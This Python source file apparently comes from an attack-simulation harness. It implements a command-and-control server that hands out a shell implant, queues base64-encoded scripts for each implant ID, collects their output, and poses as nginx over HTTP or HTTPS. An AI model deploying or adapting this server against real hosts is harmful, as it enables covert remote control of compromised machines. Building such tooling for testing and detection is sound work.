# SPDX-License-Identifier: GPL-2.0-or-later
"""The intruder's control server: hands out the implant, work, and takes results.

One per scenario, over HTTP or HTTPS. A thread in the agent of the intruder's host;
`run` gives one implant a shell script and waits for what it printed.
"""

import base64
import http.server
import itertools
import pathlib
import queue
import ssl
import threading
import urllib.parse


def implant_code(blanks):
    """implant.sh as it is handed out: its blanks filled, its comments left out."""
    code = pathlib.Path("/mnt/code/lib/implant.sh").read_text()
    for blank, value in blanks.items():
        code = code.replace("@%s@" % blank, str(value))
    first, *rest = code.splitlines(keepends=True)
    return first + "".join(line for line in rest if not line.startswith("#"))


class Server:
    def __init__(self, port, page, implant, tls=False):
        """`implant` fills the blanks of implant.sh; `page` is the path of the polls."""
        self.page = page
        self.work = {}              # implant id -> queue of (number, script)
        self.results = {}           # number -> queue with one result
        self.seen = {}              # implant id -> event
        self.numbers = itertools.count(1)
        self.code = implant_code(implant)
        outer = self

        class Handler(http.server.BaseHTTPRequestHandler):
            protocol_version, server_version, sys_version = "HTTP/1.1", "nginx", ""

            def answer(self, body):
                self.send_response(200)
                self.send_header("Content-Length", str(len(body)))
                self.send_header("Connection", "close")
                self.end_headers()
                self.wfile.write(body)

            def do_GET(self):
                url = urllib.parse.urlsplit(self.path)
                name = urllib.parse.parse_qs(url.query).get("id", ["?"])[0]
                if url.path.strip("/") != outer.page:
                    return self.answer(outer.code.encode())
                outer.event(name).set()
                try:
                    number, script = outer.queue(name).get_nowait()
                    self.answer(b"%d %s" % (number, base64.b64encode(script.encode())))
                except queue.Empty:
                    self.answer(b"")

            def do_POST(self):
                query = urllib.parse.parse_qs(urllib.parse.urlsplit(self.path).query)
                body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
                self.answer(b"")
                waiting = outer.results.get(int(query.get("n", ["0"])[0]))
                if waiting:
                    waiting.put(base64.b64decode(body).decode(errors="replace"))

            def log_message(self, *_):
                pass

        server = http.server.ThreadingHTTPServer(("0.0.0.0", port), Handler)
        if tls:
            context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
            context.num_tickets = 0
            context.load_cert_chain("/run/tls.pem", "/run/tls.key")
            server.socket = context.wrap_socket(server.socket, server_side=True, do_handshake_on_connect=False)
        threading.Thread(target=server.serve_forever, daemon=True).start()

    def queue(self, name):
        return self.work.setdefault(name, queue.Queue())

    def event(self, name):
        return self.seen.setdefault(name, threading.Event())

    def wait(self, name, timeout):
        if not self.event(name).wait(timeout):
            raise RuntimeError("no implant reported from " + name)

    def run(self, name, script, timeout=90):
        number = next(self.numbers)
        self.results[number] = queue.Queue()
        self.queue(name).put((number, script))
        try:
            return self.results[number].get(timeout=timeout)
        except queue.Empty:
            return None
